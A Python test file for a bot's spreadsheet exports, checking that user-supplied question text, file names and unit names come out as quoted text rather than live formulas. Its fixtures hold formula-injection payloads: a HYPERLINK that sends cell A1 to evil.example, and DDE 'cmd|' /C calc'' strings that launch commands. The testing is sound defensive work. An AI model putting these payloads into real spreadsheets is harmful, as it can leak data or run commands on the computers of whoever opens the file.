"""Formula injection (issue 14, item 3): text that users control — question stems, options,
file names, unit names — comes out of every workbook the bot writes as text, never as a formula.

Every export is checked the same way: each text cell is a string cell ("s") holding exactly the
text that went in, and one that starts like a formula (= + - @, tab, CR; OWASP's list) carries
Excel's quote prefix, so that it stays text even when someone edits the cell. And there is one
writer: no other module writes cells, sheets or CSV rows itself.
"""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot import cli
from bot.bank import service as bank
from bot.bank import workbooks
from bot.bank.questions import HEADER
from bot.core import xlsx
from bot.core.uow import Origin
from bot.overview import export as overview_export
from bot.results import export as results_export
from bot.results import rates
from tests import factories
from tests.test_bank import DEPT, OTHER_DEPT, csv_bytes, dept_identity, question_rows

ROOT = Path(__file__).resolve().parent.parent
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

STEM = '=HYPERLINK("http://evil.example/?"&A1,"点击查看答案")'
OPTIONS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
CSV_NAME = "=HYPERLINK(1).csv"
XLSX_NAME = "@SUM(1).xlsx"
UNIT_NAME = '=HYPERLINK("http://evil.example","耒阳市交通局")'
UNIT_CODE = "+LY-JT"


def hostile_rows(config) -> list[list]:
    rows = question_rows(config)
    rows[0][1] = STEM
    rows[0][2:6] = OPTIONS
    rows[1][1] = "-" + rows[1][1]
    rows[2][1] = "+" + rows[2][1]
    rows[3][1] = "@" + rows[3][1]
    return rows


def text_cells_xlsx(rows: list[list]) -> bytes:
    """An XLSX whose cells are text that merely looks like formulas (what a crafted file, or
    Excel's leading apostrophe, gives)."""
    book = Workbook()
    sheet = book.active
    sheet.title = "试题"
    for r, values in enumerate([HEADER, *rows], start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c)
            cell.value = value
            cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def assert_text_only(book: Workbook, expected: set[str]) -> None:
    """Every text cell is a string cell; formula-like ones carry the quote prefix; every
    expected text is there, unchanged."""
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    if cell.value.startswith(TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert expected <= seen, expected - seen


@pytest.fixture
def hostile(ctx):
    factories.tree(ctx)
    factories.unit(ctx, UNIT_CODE, UNIT_NAME, parent="LY")
    rows = hostile_rows(ctx.config)
    for uid, dept, data, name in (
        (501, DEPT, csv_bytes(rows), CSV_NAME),
        (502, OTHER_DEPT, text_cells_xlsx(rows), XLSX_NAME),
    ):
        identity = dept_identity(ctx, uid, dept)
        request = bank.SubmitRequest(file_bytes=data, filename=name)
        origin = Origin.telegram(identity.telegram_user_id, identity.telegram_user_id)
        result = ctx.run_sync(lambda uow, r=request: bank.submit(uow, r), origin)
        assert result.stored, result.validation.errors
    return ctx


def test_put_stores_formula_like_text_as_quoted_text(tmp_path):
    book = xlsx.new_workbook()
    sheet = xlsx.add_sheet(book, "s", ["h"], [10])
    values = [STEM, *OPTIONS, "\t=1+1", "-", "普通文字", "a=b"]
    for row, value in enumerate(values, start=2):
        xlsx.put(sheet, row, 1, value)
    xlsx.put(sheet, len(values) + 2, 1, -5)  # numbers stay numbers
    xlsx.save(book, tmp_path / "t.xlsx")
    loaded = load_workbook(tmp_path / "t.xlsx")["s"]
    cells = [loaded.cell(row, 1) for row in range(2, len(values) + 2)]
    assert [c.value for c in cells] == values
    assert all(c.data_type == "s" for c in cells)
    assert [bool(c.quotePrefix) for c in cells] == [v.startswith(TRIGGERS) for v in values]
    number = loaded.cell(len(values) + 2, 1)
    assert number.value == -5 and number.data_type == "n" and not number.quotePrefix
    # (XML turns a stored CR into LF on reading; the cell as written is quoted all the same.)
    assert xlsx.put(sheet, 1, 2, "\r=1+1").quotePrefix


def test_question_bank_export_keeps_hostile_text_as_text(hostile, tmp_path, monkeypatch):
    """``python -m bot questions export``: the merged bank and the report sheet."""
    monkeypatch.setenv("DATABASE_URL", hostile.db.url)
    target = tmp_path / "bank.xlsx"
    assert cli.main(["questions", "export", str(target)]) == 0
    rows = hostile_rows(hostile.config)
    expected = {STEM, *OPTIONS, rows[1][1], rows[2][1], rows[3][1], CSV_NAME, XLSX_NAME}
    assert_text_only(load_workbook(target), expected)


def test_bank_template_is_text_only(config):
    assert_text_only(load_workbook(io.BytesIO(workbooks.template_bytes(config))), set())


def test_registrations_export_keeps_hostile_unit_names_as_text(hostile, tmp_path):
    target = tmp_path / "registrations.xlsx"
    hostile.run_sync(
        lambda uow: overview_export.write_registrations_xlsx(uow, target), Origin.cli()
    )
    assert_text_only(load_workbook(target), {UNIT_NAME, UNIT_CODE})


def test_results_export_keeps_hostile_unit_names_as_text(hostile, tmp_path):
    factories.unit(hostile, "+CITY-1", "@市交通运输局")  # a first-level unit of the city
    report = hostile.run_sync(rates.rates, Origin.cli())
    target = tmp_path / "results.xlsx"
    results_export.write_results_xlsx(hostile.config, report, target)
    assert_text_only(load_workbook(target), {UNIT_NAME, UNIT_CODE, "+CITY-1", "@市交通运输局"})


# --- one writer ------------------------------------------------------------------------------

WRITER = ROOT / "bot" / "core" / "xlsx.py"
PACKAGES = ("bot", "handlers", "reminders", "faq")


def _writes_cells_itself(tree: ast.AST) -> list[str]:
    """Ways around the one writer: ``Workbook()``, ``ws.append``, ``cell.value = ``,
    ``sheet.cell(..., value=...)``, ``csv.writer`` / ``csv.DictWriter``."""
    found: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if name in ("Workbook", "writer", "DictWriter", "append_row"):
                found.append(f"{name}() at line {node.lineno}")
            if name == "append" and isinstance(func, ast.Attribute):
                owner = ast.unparse(func.value).lower().rsplit(".", 1)[-1]
                if owner == "ws" or owner.endswith(("sheet", "book")):
                    found.append(f"{owner}.append at line {node.lineno}")
            if name == "cell" and (
                any(k.arg == "value" for k in node.keywords) or len(node.args) > 2
            ):
                found.append(f"cell(value=...) at line {node.lineno}")
        if isinstance(node, ast.Assign | ast.AugAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"{ast.unparse(target)} = at line {node.lineno}")
    return found


def test_every_spreadsheet_is_written_by_the_one_writer():
    offenders = {}
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            if path == WRITER:
                continue
            found = _writes_cells_itself(ast.parse(path.read_text(encoding="utf-8")))
            if found:
                offenders[str(path.relative_to(ROOT))] = found
    assert offenders == {}


def test_the_writer_check_sees_a_way_around_it():
    sample = "ws.append(row)\ncell.value = x\nbook = Workbook()\ncsv.writer(f)\n"
    assert len(_writes_cells_itself(ast.parse(sample))) == 4
